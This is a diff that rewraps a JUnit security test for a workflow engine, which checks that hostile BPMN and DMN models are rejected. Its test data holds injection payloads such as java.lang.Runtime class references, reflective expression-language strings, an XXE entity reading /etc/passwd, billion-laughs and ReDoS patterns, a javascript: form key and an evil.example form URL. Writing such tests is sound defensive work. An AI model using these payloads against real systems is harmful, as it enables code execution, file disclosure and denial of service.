@@ -18,13 +18,17 @@ import org.junit.jupiter.params.provider.Arguments;
 import org.junit.jupiter.params.provider.MethodSource;
 import org.sixstep.engine.EngineTest;
 
-/** A process owner who means harm: each model is refused at every door with a sentence that names file and element, nothing of it stays, and the security log knows. */
+/**
+ * A process owner who means harm: each model is refused at every door with a sentence that names file and element, nothing of it stays, and
+ * the security log knows.
+ */
 class HostileModelTest extends EngineTest {
 
     private static final String MODEL = "publishAnswer.bpmn";
     private static final String TABLE = "assignPriority.dmn";
     private static final String FORM = "reviewAnswer.form";
-    private static final String TASK = "<bpmn:serviceTask id=\"serviceTask_remindReviewer\" name=\"Remind reviewer\" camunda:delegateExpression=\"${remindReviewerDelegate}\">";
+    private static final String TASK = "<bpmn:serviceTask id=\"serviceTask_remindReviewer\" name=\"Remind reviewer\""
+            + " camunda:delegateExpression=\"${remindReviewerDelegate}\">";
     private static final String CONDITION = "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">${answerDecision == 'revise'}";
     private static final String DUE = "<bpmn:timeDate xsi:type=\"bpmn:tFormalExpression\">${sla.workDaysFromNow(3)}</bpmn:timeDate>";
     private static final String REVIEW = "camunda:formRef=\"reviewAnswer\" camunda:formRefBinding=\"deployment\"";
@@ -52,59 +56,114 @@ class HostileModelTest extends EngineTest {
 
     private static Stream<Arguments> diagrams() {
         return Stream.of(
-                attack("a class", MODEL, TASK, TASK.replace("delegateExpression=\"${remindReviewerDelegate}", "class=\"java.lang.Runtime"), "serviceTask_remindReviewer brings a class"),
-                attack("a class in the old namespace", MODEL, TASK, TASK.replace("camunda:delegate", "xmlns:old=\"http://activiti.org/bpmn\" old:class=\"java.lang.Runtime\" camunda:delegate"),
+                attack("a class", MODEL, TASK, TASK.replace("delegateExpression=\"${remindReviewerDelegate}", "class=\"java.lang.Runtime"),
                         "serviceTask_remindReviewer brings a class"),
-                attack("a mail of its own", MODEL, TASK, TASK.replace("delegateExpression=\"${remindReviewerDelegate}", "type=\"mail"), "camunda:type"),
-                attack("a program outside", MODEL, TASK, TASK.replace("delegateExpression=\"${remindReviewerDelegate}", "type=\"external\" camunda:topic=\"x"), "camunda:type"),
-                attack("a connector", MODEL, TASK, TASK + inner("<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>"), "calls out by a connector"),
-                attack("a script in a mapping", MODEL, TASK, TASK + inner("<camunda:inputOutput><camunda:inputParameter name=\"x\"><camunda:script scriptFormat=\"juel\">${1}</camunda:script>"
-                        + "</camunda:inputParameter></camunda:inputOutput>"), "brings a script"),
-                attack("a script as listener", MODEL, TASK, TASK + inner("<camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"feel\">1</camunda:script></camunda:executionListener>"),
+                attack("a class in the old namespace", MODEL, TASK,
+                        TASK.replace("camunda:delegate",
+                                "xmlns:old=\"http://activiti.org/bpmn\" old:class=\"java.lang.Runtime\" camunda:delegate"),
+                        "serviceTask_remindReviewer brings a class"),
+                attack("a mail of its own", MODEL, TASK, TASK.replace("delegateExpression=\"${remindReviewerDelegate}", "type=\"mail"),
+                        "camunda:type"),
+                attack("a program outside", MODEL, TASK,
+                        TASK.replace("delegateExpression=\"${remindReviewerDelegate}", "type=\"external\" camunda:topic=\"x"),
+                        "camunda:type"),
+                attack("a connector", MODEL, TASK,
+                        TASK + inner("<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>"),
+                        "calls out by a connector"),
+                attack("a script in a mapping", MODEL, TASK, TASK + inner(
+                        "<camunda:inputOutput><camunda:inputParameter name=\"x\"><camunda:script"
+                                + " scriptFormat=\"juel\">${1}</camunda:script>"
+                                + "</camunda:inputParameter></camunda:inputOutput>"),
                         "brings a script"),
-                attack("a script from a resource", MODEL, CONDITION, CONDITION.replace("xsi:type", "camunda:resource=\"deployment://x.js\" language=\"javascript\" xsi:type"), "takes a script from a resource"),
-                attack("a condition as script", MODEL, CONDITION, CONDITION.replace("xsi:type", "language=\"juel\" xsi:type").replace("answerDecision == 'revise'", "''.getClass().getName() == 'x'"),
+                attack("a script as listener", MODEL, TASK, TASK + inner(
+                        "<camunda:executionListener event=\"start\"><camunda:script"
+                                + " scriptFormat=\"feel\">1</camunda:script></camunda:executionListener>"),
+                        "brings a script"),
+                attack("a script from a resource", MODEL, CONDITION,
+                        CONDITION.replace("xsi:type", "camunda:resource=\"deployment://x.js\" language=\"javascript\" xsi:type"),
+                        "takes a script from a resource"),
+                attack("a condition as script", MODEL, CONDITION,
+                        CONDITION.replace("xsi:type", "language=\"juel\" xsi:type").replace("answerDecision == 'revise'",
+                                "''.getClass().getName() == 'x'"),
                         "flow_answerToRevise is written in a language of its own"),
-                attack("injection into a delegate", MODEL, TASK, TASK + inner("<camunda:field name=\"records\"><camunda:string>x</camunda:string></camunda:field>"), "puts values into a delegate"),
-                attack("a page as form", MODEL, REVIEW, "camunda:formKey=\"embedded:deployment:evil.html\"", "userTask_reviewAnswer shows a page"),
-                attack("a foreign address as form", MODEL, REVIEW, "camunda:formKey=\"https://evil.example/form\"", "userTask_reviewAnswer shows a page"),
+                attack("injection into a delegate", MODEL, TASK,
+                        TASK + inner("<camunda:field name=\"records\"><camunda:string>x</camunda:string></camunda:field>"),
+                        "puts values into a delegate"),
+                attack("a page as form", MODEL, REVIEW, "camunda:formKey=\"embedded:deployment:evil.html\"",
+                        "userTask_reviewAnswer shows a page"),
+                attack("a foreign address as form", MODEL, REVIEW, "camunda:formKey=\"https://evil.example/form\"",
+                        "userTask_reviewAnswer shows a page"),
                 attack("a script as form", MODEL, REVIEW, "camunda:formKey=\"javascript:alert(1)\"", "userTask_reviewAnswer shows a page"),
                 attack("a step without form", MODEL, REVIEW, "", "userTask_reviewAnswer without a form"),
-                attack("a step whose form only seems to be one", MODEL, REVIEW, "xmlns:other=\"x\" other:formRef=\"reviewAnswer\"", "userTask_reviewAnswer without a form"),
-                attack("a form by expression", MODEL, "camunda:formRef=\"reviewAnswer\"", "camunda:formRef=\"${answerDecision}\"", "by an expression (formRef)"),
-                attack("a process by expression", "supportTicket.bpmn", "calledElement=\"resolveProblem\"", "calledElement=\"${outcome}\"", "by an expression (calledElement)"),
-                attack("whatever is deployed next", "supportTicket.bpmn", " camunda:calledElementBinding=\"deployment\"", "", "calls whatever is deployed last under a name"),
-                attack("what only seems to be deployed with it", "supportTicket.bpmn", "camunda:calledElementBinding", "xmlns:other=\"x\" other:calledElementBinding", "calls whatever is deployed last under a name"),
+                attack("a step whose form only seems to be one", MODEL, REVIEW, "xmlns:other=\"x\" other:formRef=\"reviewAnswer\"",
+                        "userTask_reviewAnswer without a form"),
+                attack("a form by expression", MODEL, "camunda:formRef=\"reviewAnswer\"", "camunda:formRef=\"${answerDecision}\"",
+                        "by an expression (formRef)"),
+                attack("a process by expression", "supportTicket.bpmn", "calledElement=\"resolveProblem\"", "calledElement=\"${outcome}\"",
+                        "by an expression (calledElement)"),
+                attack("whatever is deployed next", "supportTicket.bpmn", " camunda:calledElementBinding=\"deployment\"", "",
+                        "calls whatever is deployed last under a name"),
+                attack("what only seems to be deployed with it", "supportTicket.bpmn", "camunda:calledElementBinding",
+                        "xmlns:other=\"x\" other:calledElementBinding", "calls whatever is deployed last under a name"),
                 attack("a case", MODEL, TASK, TASK.replace("camunda:delegate", "camunda:caseRef=\"x\" camunda:delegate"), "calls a case"),
-                attack("another's record by mapping", MODEL, TASK, TASK + inner("<camunda:inputOutput><camunda:inputParameter name=\"ticketId\">1</camunda:inputParameter></camunda:inputOutput>"),
+                attack("another's record by mapping", MODEL, TASK, TASK + inner(
+                        "<camunda:inputOutput><camunda:inputParameter name=\"ticketId\">1</camunda:inputParameter></camunda:inputOutput>"),
                         "serviceTask_remindReviewer sets ticketId"),
-                attack("the text of an error", MODEL, "</bpmn:process>", "<bpmn:boundaryEvent id=\"boundary_leak\" attachedToRef=\"userTask_reviewAnswer\"><bpmn:errorEventDefinition camunda:errorMessageVariable=\"leak\" />"
-                        + "</bpmn:boundaryEvent></bpmn:process>", "boundary_leak keeps the text of an error"),
-                attack("an exception by its class", MODEL, "</bpmn:definitions>", "<bpmn:error id=\"error_any\" errorCode=\"java.lang.RuntimeException\" /></bpmn:definitions>", "error_any catches what went wrong inside"),
-                attack("another's record by list", "resolveProblem.bpmn", "camunda:elementVariable=\"collaborator\" />", "><bpmn:inputDataItem name=\"ticketId\" /></bpmn:multiInstanceLoopCharacteristics>", "sets ticketId"),
-                attack("another's record by call", "supportTicket.bpmn", "source=\"ticketId\" target=\"ticketId\"", "source=\"owner\" target=\"ticketId\"", "sets ticketId"),
-                attack("another's record by constant", "supportTicket.bpmn", "source=\"ticketId\" target=\"ticketId\"", "sourceExpression=\"${'x'}\" target=\"ticketId\"", "sets ticketId"),
-                attack("another's record by result", MODEL, TASK, TASK.replace("delegateExpression=\"${remindReviewerDelegate}", "expression=\"${'x'}\" camunda:resultVariable=\"answerId"), "sets answerId"),
-                attack("a signal to everybody", MODEL, "<bpmn:messageEventDefinition messageRef=\"message_answerDrafted\" />", "<bpmn:signalEventDefinition />", "signal"),
-                attack("an event of two kinds", MODEL, "<bpmn:messageEventDefinition messageRef=\"message_answerDrafted\" />", "<bpmn:messageEventDefinition messageRef=\"message_answerDrafted\" /><bpmn:linkEventDefinition name=\"x\" />",
+                attack("the text of an error", MODEL, "</bpmn:process>",
+                        "<bpmn:boundaryEvent id=\"boundary_leak\" attachedToRef=\"userTask_reviewAnswer\"><bpmn:errorEventDefinition"
+                                + " camunda:errorMessageVariable=\"leak\" />"
+                                + "</bpmn:boundaryEvent></bpmn:process>",
+                        "boundary_leak keeps the text of an error"),
+                attack("an exception by its class", MODEL, "</bpmn:definitions>",
+                        "<bpmn:error id=\"error_any\" errorCode=\"java.lang.RuntimeException\" /></bpmn:definitions>",
+                        "error_any catches what went wrong inside"),
+                attack("another's record by list", "resolveProblem.bpmn", "camunda:elementVariable=\"collaborator\" />",
+                        "><bpmn:inputDataItem name=\"ticketId\" /></bpmn:multiInstanceLoopCharacteristics>", "sets ticketId"),
+                attack("another's record by call", "supportTicket.bpmn", "source=\"ticketId\" target=\"ticketId\"",
+                        "source=\"owner\" target=\"ticketId\"", "sets ticketId"),
+                attack("another's record by constant", "supportTicket.bpmn", "source=\"ticketId\" target=\"ticketId\"",
+                        "sourceExpression=\"${'x'}\" target=\"ticketId\"", "sets ticketId"),
+                attack("another's record by result", MODEL, TASK,
+                        TASK.replace("delegateExpression=\"${remindReviewerDelegate}",
+                                "expression=\"${'x'}\" camunda:resultVariable=\"answerId"),
+                        "sets answerId"),
+                attack("a signal to everybody", MODEL, "<bpmn:messageEventDefinition messageRef=\"message_answerDrafted\" />",
+                        "<bpmn:signalEventDefinition />", "signal"),
+                attack("an event of two kinds", MODEL, "<bpmn:messageEventDefinition messageRef=\"message_answerDrafted\" />",
+                        "<bpmn:messageEventDefinition messageRef=\"message_answerDrafted\" /><bpmn:linkEventDefinition name=\"x\" />",
                         "is an event of several kinds"),
-                attack("no door for problems", "supportTicket.bpmn", "name=\"support.problemReceived\"", "name=\"support.nothing\"", "by which every problem is received"),
-                attack("a document type", MODEL, "<bpmn:definitions", "<!DOCTYPE x SYSTEM \"http://127.0.0.1:9/x.dtd\"><bpmn:definitions", "A model has no DOCTYPE"),
-                attack("a file as entity", MODEL, "<bpmn:definitions", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><bpmn:definitions", "A model has no DOCTYPE"),
-                attack("a billion laughs", TABLE, "<definitions", "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">]><definitions", "A model has no DOCTYPE"),
-                attack("a deep document", MODEL, "<bpmn:message id", "<bpmn:documentation>" + "<x>".repeat(5000) + "</x>".repeat(5000) + "</bpmn:documentation><bpmn:message id", "elements in each other"),
-                attack("a wide document", MODEL, "<bpmn:message id", "<bpmn:message name=\"x\"/>".repeat(25_000) + "<bpmn:message id", "more than 20000 elements"));
+                attack("no door for problems", "supportTicket.bpmn", "name=\"support.problemReceived\"", "name=\"support.nothing\"",
+                        "by which every problem is received"),
+                attack("a document type", MODEL, "<bpmn:definitions", "<!DOCTYPE x SYSTEM \"http://127.0.0.1:9/x.dtd\"><bpmn:definitions",
+                        "A model has no DOCTYPE"),
+                attack("a file as entity", MODEL, "<bpmn:definitions",
+                        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><bpmn:definitions", "A model has no DOCTYPE"),
+                attack("a billion laughs", TABLE, "<definitions",
+                        "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">]><definitions", "A model has no DOCTYPE"),
+                attack("a deep document", MODEL, "<bpmn:message id",
+                        "<bpmn:documentation>" + "<x>".repeat(5000) + "</x>".repeat(5000) + "</bpmn:documentation><bpmn:message id",
+                        "elements in each other"),
+                attack("a wide document", MODEL, "<bpmn:message id", "<bpmn:message name=\"x\"/>".repeat(25_000) + "<bpmn:message id",
+                        "more than 20000 elements"));
     }
 
     private static Stream<Arguments> expressions() {
-        return Stream.of("${''.getClass().forName('java.lang.Runtime')}", "${''.class.classLoader}", "${''['class']}", "${''['getClass']()}", "${dataSource.connection}", "${jdbcTemplate.execute('x')}",
-                "${environment['sixstep.link-secret']}", "${repositoryService.createDeployment()}", "${execution.processEngineServices}", "${execution.setVariable('ticketId', 'x')}",
-                "${task.complete()}", "${'x'.repeat(2000000000)}", "${'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!'.matches('(a+)+$')}", "${''.format('%2000000000d', 1)}",
-                "${S('[]').mapTo('org.springframework.context.support.ClassPathXmlApplicationContext')}", "${JSON('{}').unwrap()}", "${dateTime().zone.setDefault(dateTime().zone)}",
-                "${remindReviewerDelegate.setTargetSource(null)}", "${".concat("(".repeat(600)).concat("1").concat(")".repeat(600)).concat("}"), "${T(java.lang.Runtime)}", "#{environment}")
+        return Stream.of("${''.getClass().forName('java.lang.Runtime')}", "${''.class.classLoader}", "${''['class']}",
+                "${''['getClass']()}", "${dataSource.connection}", "${jdbcTemplate.execute('x')}",
+                "${environment['sixstep.link-secret']}", "${repositoryService.createDeployment()}", "${execution.processEngineServices}",
+                "${execution.setVariable('ticketId', 'x')}",
+                "${task.complete()}", "${'x'.repeat(2000000000)}", "${'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!'.matches('(a+)+$')}",
+                "${''.format('%2000000000d', 1)}",
+                "${S('[]').mapTo('org.springframework.context.support.ClassPathXmlApplicationContext')}", "${JSON('{}').unwrap()}",
+                "${dateTime().zone.setDefault(dateTime().zone)}",
+                "${remindReviewerDelegate.setTargetSource(null)}",
+                "${".concat("(".repeat(600)).concat("1").concat(")".repeat(600)).concat("}"), "${T(java.lang.Runtime)}", "#{environment}")
                 .flatMap(expression -> Stream.of(
-                        attack("listener " + expression, MODEL, TASK, TASK + inner("<camunda:executionListener event=\"start\" expression=\"" + expression + "\" />"), "serviceTask_remindReviewer"),
-                        attack("condition " + expression, MODEL, CONDITION, "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">" + expression, "flow_answerToRevise")));
+                        attack("listener " + expression, MODEL, TASK,
+                                TASK + inner("<camunda:executionListener event=\"start\" expression=\"" + expression + "\" />"),
+                                "serviceTask_remindReviewer"),
+                        attack("condition " + expression, MODEL, CONDITION,
+                                "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">" + expression, "flow_answerToRevise")));
     }
 
     private static Stream<Arguments> endless() {
@@ -119,87 +178,155 @@ class HostileModelTest extends EngineTest {
         return Stream.of(
                 circle("a step that follows itself", flow("serviceTask_remindReviewer", "serviceTask_remindReviewer")),
                 circle("a circle by an error", failure("") + flow("failed", "serviceTask_remindReviewer")),
-                circle("a circle by an error that looks like a timer", failure(inner("<bpmn:timerEventDefinition />")) + flow("failed", "serviceTask_remindReviewer")),
+                circle("a circle by an error that looks like a timer",
+                        failure(inner("<bpmn:timerEventDefinition />")) + flow("failed", "serviceTask_remindReviewer")),
                 circle("a circle through a stage", again(stage(began + works + flow("in", "done") + "<bpmn:endEvent id=\"done\" />"))),
                 circle("a circle through a stage without an end", again(stage(began + works))),
-                circle("a circle through a stage that only seems to go on", again(stage(began + works.replace(" />", ">" + inner(flow("in", "done")) + "</bpmn:serviceTask>")))),
-                circle("a circle through a stage that an event ends", again(stage(began + waits + eventStage("<bpmn:errorEventDefinition />", "")))),
-                circle("a circle by a link", "<bpmn:intermediateThrowEvent id=\"leaves\"><bpmn:linkEventDefinition name=\"x\" /></bpmn:intermediateThrowEvent><bpmn:intermediateCatchEvent id=\"comes\">"
-                        + "<bpmn:linkEventDefinition name=\"x\" /></bpmn:intermediateCatchEvent>" + flow("serviceTask_remindReviewer", "leaves") + flow("comes", "serviceTask_remindReviewer")),
-                circle("a circle through a list that may be empty", again(waits.replace("\"in\"", "\"again\"").replace(" />", ">" + list + "</bpmn:userTask>"))),
+                circle("a circle through a stage that only seems to go on",
+                        again(stage(began + works.replace(" />", ">" + inner(flow("in", "done")) + "</bpmn:serviceTask>")))),
+                circle("a circle through a stage that an event ends",
+                        again(stage(began + waits + eventStage("<bpmn:errorEventDefinition />", "")))),
+                circle("a circle by a link",
+                        "<bpmn:intermediateThrowEvent id=\"leaves\"><bpmn:linkEventDefinition name=\"x\""
+                                + " /></bpmn:intermediateThrowEvent><bpmn:intermediateCatchEvent id=\"comes\">"
+                                + "<bpmn:linkEventDefinition name=\"x\" /></bpmn:intermediateCatchEvent>"
+                                + flow("serviceTask_remindReviewer", "leaves") + flow("comes", "serviceTask_remindReviewer")),
+                circle("a circle through a list that may be empty",
+                        again(waits.replace("\"in\"", "\"again\"").replace(" />", ">" + list + "</bpmn:userTask>"))),
                 circle("a circle through a stage for a list that may be empty", again(stage(began + waits + list))),
-                circle("a circle over a date that has passed", again("<bpmn:intermediateCatchEvent id=\"again\"><bpmn:timerEventDefinition><bpmn:timeDate>2020-01-01T00:00:00</bpmn:timeDate>"
-                        + "</bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>")),
-                circle("a circle over a date that an expression writes", again("<bpmn:intermediateCatchEvent id=\"again\"><bpmn:timerEventDefinition><bpmn:timeDate>${'2020-01-01T00:00:00'}</bpmn:timeDate>"
-                        + "</bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>")),
-                circle("an event that begins itself", eventStage("<bpmn:escalationEventDefinition />", "<bpmn:escalationEventDefinition />")),
-                attack("a condition that holds already", MODEL, END, again("<bpmn:intermediateCatchEvent id=\"again\"><bpmn:conditionalEventDefinition><bpmn:condition>${true}</bpmn:condition>"
-                        + "</bpmn:conditionalEventDefinition></bpmn:intermediateCatchEvent>") + END, "waits for a condition"));
+                circle("a circle over a date that has passed", again(
+                        "<bpmn:intermediateCatchEvent"
+                                + " id=\"again\"><bpmn:timerEventDefinition><bpmn:timeDate>2020-01-01T00:00:00</bpmn:timeDate>"
+                                + "</bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>")),
+                circle("a circle over a date that an expression writes", again(
+                        "<bpmn:intermediateCatchEvent"
+                                + " id=\"again\"><bpmn:timerEventDefinition><bpmn:timeDate>${'2020-01-01T00:00:00'}</bpmn:timeDate>"
+                                + "</bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>")),
+                circle("an event that begins itself",
+                        eventStage("<bpmn:escalationEventDefinition />", "<bpmn:escalationEventDefinition />")),
+                attack("a condition that holds already", MODEL, END, again(
+                        "<bpmn:intermediateCatchEvent"
+                                + " id=\"again\"><bpmn:conditionalEventDefinition><bpmn:condition>${true}</bpmn:condition>"
+                                + "</bpmn:conditionalEventDefinition></bpmn:intermediateCatchEvent>")
+                        + END, "waits for a condition"));
     }
 
     private static Stream<Arguments> forks() {
-        String timer = "<bpmn:intermediateCatchEvent id=\"again\"><bpmn:timerEventDefinition><bpmn:timeDate>${sla.workDaysFromNow(1)}</bpmn:timeDate></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>";
+        String timer = "<bpmn:intermediateCatchEvent"
+                + " id=\"again\"><bpmn:timerEventDefinition><bpmn:timeDate>${sla.workDaysFromNow(1)}</bpmn:timeDate></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>";
         String gateway = "<bpmn:parallelGateway id=\"both\" />" + flow("again", "both");
         return Stream.of(
-                fork("two tokens of one", timer + gateway + flow("both", "again") + "<bpmn:sequenceFlow id=\"second\" sourceRef=\"both\" targetRef=\"again\" />"),
-                fork("two tokens of one without a gateway", again(timer) + "<bpmn:sequenceFlow id=\"second\" sourceRef=\"again\" targetRef=\"serviceTask_remindReviewer\" />"),
-                fork("two tokens of one over ways of their own", timer + gateway + flow("both", "one") + flow("both", "two") + "<bpmn:exclusiveGateway id=\"one\" /><bpmn:exclusiveGateway id=\"two\" />"
-                        + flow("one", "again") + flow("two", "again")),
+                fork("two tokens of one",
+                        timer + gateway + flow("both", "again")
+                                + "<bpmn:sequenceFlow id=\"second\" sourceRef=\"both\" targetRef=\"again\" />"),
+                fork("two tokens of one without a gateway",
+                        again(timer) + "<bpmn:sequenceFlow id=\"second\" sourceRef=\"again\" targetRef=\"serviceTask_remindReviewer\" />"),
+                fork("two tokens of one over ways of their own",
+                        timer + gateway + flow("both", "one") + flow("both", "two")
+                                + "<bpmn:exclusiveGateway id=\"one\" /><bpmn:exclusiveGateway id=\"two\" />"
+                                + flow("one", "again") + flow("two", "again")),
                 fork("a reminder that begins its task again", flow("serviceTask_remindReviewer", "userTask_reviewAnswer")));
     }
 
     private static Stream<Arguments> timersAndCopies() {
         return Stream.of(
-                attack("a process that calls itself", "resolveProblem.bpmn", "<bpmn:message id=\"message_reporterAnswered\"", "<bpmn:process id=\"again\" isExecutable=\"true\" camunda:historyTimeToLive=\"P1D\"><bpmn:startEvent id=\"a\" />"
-                        + "<bpmn:sequenceFlow id=\"b\" sourceRef=\"a\" targetRef=\"c\" /><bpmn:callActivity id=\"c\" calledElement=\"again\" camunda:calledElementBinding=\"deployment\" /></bpmn:process><bpmn:message id=\"message_reporterAnswered\"", "which calls again again"),
-                attack("a timer of a millisecond", MODEL, DUE, "<bpmn:timeCycle>R/PT0.001S</bpmn:timeCycle>", "The shortest time between is a minute"),
-                attack("a timer of nothing", MODEL, DUE, "<bpmn:timeCycle>R/PT0S</bpmn:timeCycle>", "The shortest time between is a minute"),
-                attack("a timer since the beginning of time", MODEL, DUE, "<bpmn:timeCycle>R/1970-01-01T00:00:00/PT1M</bpmn:timeCycle>", "times already"),
-                attack("a timer of each second", MODEL, DUE, "<bpmn:timeCycle>* * * * * ?</bpmn:timeCycle>", "more often than once a minute"),
-                attack("a wait of nothing", MODEL, DUE, "<bpmn:timeDuration>PT0S</bpmn:timeDuration>", "The shortest time between is a minute"),
-                attack("a thousand million copies", MODEL, TASK, TASK + "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>1000000000</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>", "1 to 50"),
-                attack("copies by expression", MODEL, TASK, TASK + "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>${1000000000}</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>", "1 to 50"),
-                attack("copies of copies", MODEL, END, "<bpmn:subProcess id=\"many\">" + "<bpmn:serviceTask id=\"each\"><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>50</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>"
-                        + "</bpmn:serviceTask><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>50</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:subProcess>" + END,
+                attack("a process that calls itself", "resolveProblem.bpmn", "<bpmn:message id=\"message_reporterAnswered\"",
+                        "<bpmn:process id=\"again\" isExecutable=\"true\" camunda:historyTimeToLive=\"P1D\"><bpmn:startEvent id=\"a\" />"
+                                + "<bpmn:sequenceFlow id=\"b\" sourceRef=\"a\" targetRef=\"c\" /><bpmn:callActivity id=\"c\""
+                                + " calledElement=\"again\" camunda:calledElementBinding=\"deployment\" /></bpmn:process><bpmn:message"
+                                + " id=\"message_reporterAnswered\"",
+                        "which calls again again"),
+                attack("a timer of a millisecond", MODEL, DUE, "<bpmn:timeCycle>R/PT0.001S</bpmn:timeCycle>",
+                        "The shortest time between is a minute"),
+                attack("a timer of nothing", MODEL, DUE, "<bpmn:timeCycle>R/PT0S</bpmn:timeCycle>",
+                        "The shortest time between is a minute"),
+                attack("a timer since the beginning of time", MODEL, DUE, "<bpmn:timeCycle>R/1970-01-01T00:00:00/PT1M</bpmn:timeCycle>",
+                        "times already"),
+                attack("a timer of each second", MODEL, DUE, "<bpmn:timeCycle>* * * * * ?</bpmn:timeCycle>",
+                        "more often than once a minute"),
+                attack("a wait of nothing", MODEL, DUE, "<bpmn:timeDuration>PT0S</bpmn:timeDuration>",
+                        "The shortest time between is a minute"),
+                attack("a thousand million copies", MODEL, TASK, TASK
+                        + "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>1000000000</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>",
+                        "1 to 50"),
+                attack("copies by expression", MODEL, TASK, TASK
+                        + "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>${1000000000}</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>",
+                        "1 to 50"),
+                attack("copies of copies", MODEL, END, "<bpmn:subProcess id=\"many\">"
+                        + "<bpmn:serviceTask"
+                        + " id=\"each\"><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>50</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>"
+                        + "</bpmn:serviceTask><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>50</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:subProcess>"
+                        + END,
                         "the element each repeats steps of a stage that is repeated itself"),
-                attack("copies of a process with copies", "supportTicket.bpmn", "calledElement=\"resolveProblem\" camunda:calledElementBinding=\"deployment\">", "calledElement=\"resolveProblem\" camunda:calledElementBinding=\"deployment\">"
-                        + "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>50</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>", "repeats the process resolveProblem, which repeats steps itself"),
-                attack("retries without end", MODEL, TASK, TASK + inner("<camunda:failedJobRetryTimeCycle>R1000000/PT0S</camunda:failedJobRetryTimeCycle>"), "repeats what failed"),
-                attack("the first place in the queue", MODEL, TASK, TASK.replace("camunda:delegate", "camunda:jobPriority=\"2147483647\" camunda:delegate"), "gives its jobs a priority"));
+                attack("copies of a process with copies", "supportTicket.bpmn",
+                        "calledElement=\"resolveProblem\" camunda:calledElementBinding=\"deployment\">",
+                        "calledElement=\"resolveProblem\" camunda:calledElementBinding=\"deployment\">"
+                                + "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>50</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>",
+                        "repeats the process resolveProblem, which repeats steps itself"),
+                attack("retries without end", MODEL, TASK,
+                        TASK + inner("<camunda:failedJobRetryTimeCycle>R1000000/PT0S</camunda:failedJobRetryTimeCycle>"),
+                        "repeats what failed"),
+                attack("the first place in the queue", MODEL, TASK,
+                        TASK.replace("camunda:delegate", "camunda:jobPriority=\"2147483647\" camunda:delegate"),
+                        "gives its jobs a priority"));
     }
 
     private static Stream<Arguments> tables() {
         return Stream.of(
-                Stream.of("juel", "javascript", "groovy", "Python").map(language -> attack("a table in " + language, TABLE, "<inputExpression ", "<inputExpression expressionLanguage=\"" + language + "\" ",
-                        "is written in " + language)),
-                Stream.of("count(for i in 1..1000000000 return i)", "matches(\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!\", \"(a+)+$\")", "replace(\"a\", \"(a+)+$\", \"b\")", "decimal(1, 999999999)",
-                        "number(\"1E999999999\")", "{a: \"xxxxxxxxxx\", b: a + a}.b", "summary.class.classLoader", "summary.getClass()", "2 ** 999999999", "(function(x) external {java: {class: \"java.lang.Runtime\", "
-                                + "method signature: \"getRuntime()\"}})(1)", "some x in [1,2] satisfies x = 1", "[1, 2][item > 0][item > 0]", "floor(1, 300000000)",
-                        "ceiling(1, 300000000)", "floor(n: 1, scala: 300000000)", "1e999999999", "distinct values(checks)", "index of(checks, 1)", "concatenate(checks, checks)", "duration(summary)",
-                        "contains(summary, summary)", "substring after(summary, summary)", "summary" + " + summary".repeat(11), "if a in ".repeat(7) + "a" + " then ? else ?".repeat(7), "abs((abs((abs((1))))))",
-                        "(".repeat(7) + "1", "(]".repeat(4) + "1", "`\"` + " + "(".repeat(7) + "1", "/* \" */" + "(".repeat(7) + "1", "// \"\n" + "[".repeat(7) + "1")
+                Stream.of("juel", "javascript", "groovy", "Python")
+                        .map(language -> attack("a table in " + language, TABLE, "<inputExpression ",
+                                "<inputExpression expressionLanguage=\"" + language + "\" ",
+                                "is written in " + language)),
+                Stream.of("count(for i in 1..1000000000 return i)", "matches(\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!\", \"(a+)+$\")",
+                        "replace(\"a\", \"(a+)+$\", \"b\")", "decimal(1, 999999999)",
+                        "number(\"1E999999999\")", "{a: \"xxxxxxxxxx\", b: a + a}.b", "summary.class.classLoader", "summary.getClass()",
+                        "2 ** 999999999", "(function(x) external {java: {class: \"java.lang.Runtime\", "
+                                + "method signature: \"getRuntime()\"}})(1)",
+                        "some x in [1,2] satisfies x = 1", "[1, 2][item > 0][item > 0]", "floor(1, 300000000)",
+                        "ceiling(1, 300000000)", "floor(n: 1, scala: 300000000)", "1e999999999", "distinct values(checks)",
